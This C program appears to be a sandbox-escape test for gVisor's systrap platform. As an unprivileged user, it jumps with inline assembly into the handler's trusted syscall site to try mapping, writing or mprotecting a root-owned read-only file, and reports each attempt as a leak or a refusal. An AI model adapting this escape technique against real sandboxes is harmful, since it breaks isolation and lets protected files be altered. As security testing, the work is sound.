/* The systrap handler's exec site: the one `syscall` instruction from which
 * the filter lets positional reads and file maps run on the host, on the fd
 * numbers where the sentry installs files the app has open (1002-1017). An
 * app can jump there itself. This program does, as an unprivileged user
 * holding a read-only open of a root-owned read-only tmpfs file that the
 * sentry has installed (by a map of it), and tries to get write access:
 * a shared writable map of every installed number, a write through it, and
 * mprotect of a read-only shared map. On ptrace the site is an ordinary
 * trapped call (the sandbox has no fd 1002: EBADF). */
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>
#include <linux/futex.h>
#include "escape.h"

/* STUB_BASE + the handler's offset + the exec site's, minus the syscall's 2 bytes. */
#define EXEC_SYSCALL 0x10320UL
#define FIRST_SLOT 1002
#define SLOTS 16

/* A stand-in for the handler's slot (state, spin count, result at 80) and
 * the gregs it writes the result into on the way out. */
static struct {
	volatile uint32_t state;
	uint32_t spin;
	uint64_t words[14];
} slot __attribute__((aligned(64)));
static uint64_t gregs[32];

/* Answers the handler's "published" (1) with "reply" (2). */
static void *replier(void *arg)
{
	(void)arg;
	while (__atomic_load_n(&slot.state, __ATOMIC_ACQUIRE) != 1)
		;
	__atomic_store_n(&slot.state, 2, __ATOMIC_RELEASE);
	syscall(SYS_futex, &slot.state, FUTEX_WAKE, 1, 0, 0, 0);
	return 0;
}

/* Makes syscall nr at the exec site; returns its raw result, which the
 * handler leaves where rt_sigreturn would restore rax from: gregs[13]. */
static long site_call(long nr, long a0, long a1, long a2, long a3, long a4, long a5)
{
	pthread_t t;
	slot.state = 0;
	slot.spin = 0x7fffffff;
	if (pthread_create(&t, 0, replier, 0) != 0)
		return -1000;
	register long r10 __asm__("r10") = a3;
	register long r8 __asm__("r8") = a4;
	register long r9 __asm__("r9") = a5;
	long clobbered;
	/* Below the red zone, the return address the handler's `ret` takes. */
	__asm__ volatile("sub $128, %%rsp\n\t"
			 "lea 1f(%%rip), %%rcx\n\t"
			 "push %%rcx\n\t"
			 "mov %[s], %%r12\n\t"
			 "mov %[g], %%r13\n\t"
			 "mov %[site], %%r14\n\t"
			 "jmp *%%r14\n"
			 "1:\n\t"
			 "add $128, %%rsp"
			 : "=a"(clobbered), "+D"(a0), "+S"(a1), "+d"(a2), "+r"(r10), "+r"(r8), "+r"(r9)
			 : "a"(nr), [s] "r"(&slot), [g] "r"(gregs), [site] "r"(EXEC_SYSCALL)
			 : "rcx", "r11", "r12", "r13", "r14", "memory", "cc");
	(void)clobbered;
	pthread_join(t, 0);
	return (long)gregs[13];
}

int main(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	const char *path = "/dev/shm/root-only";
	int w = open(path, O_CREAT | O_TRUNC | O_WRONLY, 0444);
	if (w < 0 || write(w, "ORIGINAL", 8) != 8 || close(w) != 0) {
		printf("setup: %s\n", errname(errno));
		return 1;
	}
	if (setgid(65534) != 0 || setuid(65534) != 0) {
		printf("setup: setuid %s\n", errname(errno));
		return 1;
	}
	int fd = open(path, O_RDWR);
	attempt_result("open for writing as nobody", "%s", fd < 0 ? errname(errno) : "OPENED (LEAK)");
	fd = open(path, O_RDONLY);
	char *ro = mmap(0, 4096, PROT_READ, MAP_SHARED, fd, 0);
	if (fd < 0 || ro == MAP_FAILED) {
		printf("setup: read-only map %s\n", errname(errno));
		return 1;
	}
	/* Which numbers hold the file (readable through the site, as the app may). */
	int readable = 0, mapped = 0;
	char buf[9] = {0};
	for (int n = FIRST_SLOT; n < FIRST_SLOT + SLOTS; n++)
		if (site_call(SYS_pread64, n, (long)buf, 8, 0, 0, 0) == 8 && memcmp(buf, "ORIGINAL", 8) == 0)
			readable++;
	attempt_result("read the installed file through the exec site", "%s",
		       readable > 0 ? "read (the file is installed)" : "nothing installed");
	for (int n = FIRST_SLOT; n < FIRST_SLOT + SLOTS; n++) {
		long p = site_call(SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, n, 0);
		if (p >= 0 || p < -4095) {
			memcpy((char *)p, "LEAKLEAK", 8);
			mapped++;
		}
	}
	attempt_result("writable shared map through the exec site", "%s", mapped ? "MAPPED (LEAK)" : "refused");
	long r = site_call(SYS_mprotect, (long)ro, 4096, PROT_READ | PROT_WRITE, 0, 0, 0);
	attempt_result("mprotect the read-only shared map writable", "%s", r == 0 ? "WRITABLE (LEAK)" : errname(-r));
	int again = open(path, O_RDONLY);
	ssize_t got = again < 0 ? -1 : read(again, buf, 8);
	buf[got > 0 ? got : 0] = 0;
	attempt_result("file content after the attacks", "[%s]", buf);
	finish();
	return 0;
}
